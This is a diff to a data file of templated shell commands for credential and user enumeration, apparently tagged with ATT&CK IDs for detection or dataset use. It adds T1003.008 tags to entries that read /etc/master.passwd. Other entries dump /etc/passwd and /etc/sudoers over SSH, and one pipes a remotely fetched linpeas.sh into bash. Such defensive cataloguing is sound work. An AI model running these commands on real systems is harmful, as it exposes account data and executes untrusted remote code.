@@ -78,7 +78,7 @@ cat-passwd-redirect bash: «mapfile -t l < /etc/passwd; echo "${l[@]}"¦echo "$(
 cat-passwd-uname bash: «uname -a¦hostname¦whoami¦id¦pwd» «;¦&&» cat /etc/passwd
 cat-passwd-many bash: cat /etc/«issue¦os-release¦group¦hosts» /etc/passwd
 cat-passwd-find bash: find /etc -name passwd -exec cat {} \;
-cat-passwd-master bash: «cat¦less¦sudo cat» /etc/master.passwd
+cat-passwd-master bash +T1003.008: «cat¦less¦sudo cat» /etc/master.passwd
 cat-passwd-windows cmd: «wsl cat /etc/passwd¦wsl -d Ubuntu -- getent passwd¦bash.exe -c "cat /etc/passwd"¦plink.exe -ssh ‹first›@‹ip› cat /etc/passwd¦ssh ‹first›@‹ip› cat /etc/passwd»
 sudoers-passwd bash: sudo cat /etc/sudoers /etc/passwd
 sudoers-grep bash: grep -v '^#' /etc/sudoers; «cut -d: -f1 /etc/passwd¦getent passwd¦compgen -u»
@@ -170,8 +170,9 @@ finger-enum-list bash: finger-user-enum«.pl¦» -U ‹lfile› -«T ‹lfile›
 linpeas-users-out bash: ./linpeas.sh -o users_information > ‹lfile›
 linpeas-users-ssh bash: ssh ‹first›@‹ip› "bash -s -- -o users_information" < linpeas.sh
 linpeas-users-wget bash: wget -qO- http://‹ip›/linpeas.sh | bash -s -- -o users_information
-bsd-passwd bash: «cut -d: -f1¦awk -F: '{print $1}'¦grep -v nologin» /etc/master.passwd
-bsd-passwd-ssh bash: ssh root@‹ip› "cat /etc/master.passwd"
+bsd-passwd bash: «cut -d: -f1¦awk -F: '{print $1}'» /etc/master.passwd
+bsd-passwd-hashes bash +T1003.008: «grep -v nologin¦tail -n 20¦less» /etc/master.passwd
+bsd-passwd-ssh bash +T1003.008: ssh root@‹ip› "cat /etc/master.passwd"
 bsd-pw bash: «pw usershow -a¦pw usershow -a | cut -d: -f1¦sudo pw usershow -a -7»
 powercli-accounts-named powershell: «Get-VMHostAccount -User -Server ‹server›¦Get-VMHostAccount | select Id,ShellAccessEnabled¦Connect-VIServer ‹server›; Get-VMHostAccount»
 """
